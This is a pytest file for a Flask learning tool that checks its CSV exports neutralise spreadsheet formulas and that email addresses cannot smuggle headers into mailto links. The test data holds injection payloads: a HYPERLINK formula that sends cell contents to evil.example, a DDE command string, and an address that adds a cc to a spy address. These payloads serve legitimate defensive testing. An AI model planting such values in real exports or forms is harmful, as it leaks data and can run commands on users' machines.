"""Hardening (issue 14): CSV formula injection, mailto: smuggling, no 500s on huge page numbers
or over-deep JSON, the development configuration's SECRET_KEY and instance/ file modes."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from flask import Flask
from flask.testing import FlaskClient

from lti_tool.extensions import db
from lti_tool.kpis.reports import to_csv
from lti_tool.models import Person
from tests.test_learners_page import seeded  # noqa: F401 (a fixture)

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_EMAIL = "a@example.edu?cc=spy@evil.example&body=hi"


def _rename(app: Flask, person_id: int, name: str, email: str) -> None:
    with app.app_context():
        person = db.session.get(Person, person_id)
        person.name = name
        person.email = email
        db.session.commit()


# --- CSV exports ------------------------------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    rows = [
        {"a": "=1+2", "b": "+SUM(A1)", "c": "-cmd|' /C calc'!A0", "d": "@SUM(A1)"},
        {"a": "\tx", "b": "\r=1", "c": "-2.5", "d": -2.5},
        {"a": ["=x", "y"], "b": "plain", "c": 7, "d": None},
    ]
    text = to_csv(rows, ("a", "b", "c", "d"))
    out = list(csv.reader(io.StringIO(text, newline="")))
    assert out[1] == ["'=1+2", "'+SUM(A1)", "'-cmd|' /C calc'!A0", "'@SUM(A1)"]
    assert out[2] == ["'\tx", "'\r=1", "-2.5", "-2.5"]  # numbers stay numbers
    assert out[3] == ["'=x; y", "plain", "7", ""]


def test_learners_and_address_csv_exports_neutralise_formulas(
    app: Flask,
    client: FlaskClient,
    seeded: dict[str, Any],  # noqa: F811
) -> None:
    _rename(app, seeded["A"], EVIL_NAME, "@evil@example.edu")
    learners = client.get(f"/courses/1/learners.csv?t={seeded['t']}")
    rows = list(csv.DictReader(io.StringIO(learners.get_data(as_text=True))))
    ada = next(r for r in rows if "HYPERLINK" in r["name"])
    assert ada["name"] == "'" + EVIL_NAME and ada["email"] == "'@evil@example.edu"
    addresses = client.post(
        "/courses/1/learners/email",
        data={"t": seeded["t"], "format": "csv", "person": [seeded["A"]]},
    )
    rows = list(csv.DictReader(io.StringIO(addresses.get_data(as_text=True))))
    assert [(r["name"], r["email"]) for r in rows] == [("'" + EVIL_NAME, "'@evil@example.edu")]


# --- mailto: ----------------------------------------------------------------------------------


def test_an_address_cannot_smuggle_headers_into_mailto_links(
    app: Flask,
    client: FlaskClient,
    seeded: dict[str, Any],  # noqa: F811
) -> None:
    _rename(app, seeded["A"], "Ada A", EVIL_EMAIL)
    encoded = "a@example.edu%3Fcc%3Dspy@evil.example%26body%3Dhi"
    t = seeded["t"]
    table = client.get(f"/courses/1/learners?t={t}").get_data(as_text=True)
    page = client.get(f"/courses/1/learners/{seeded['A']}?t={t}").get_data(as_text=True)
    chosen = client.post(
        "/courses/1/learners/email", data={"t": t, "person": [seeded["A"], seeded["B"]]}
    ).get_data(as_text=True)
    for html in (table, page):
        links = re.findall(r'href="(mailto:[^"]*)"', html)
        assert f"mailto:{encoded}" in links
        assert not any("?" in link for link in links)
    assert f'href="mailto:?bcc={encoded},b@example.edu"' in chosen
    assert "cc=spy" not in "".join(re.findall(r'href="(mailto:[^"]*)"', chosen))
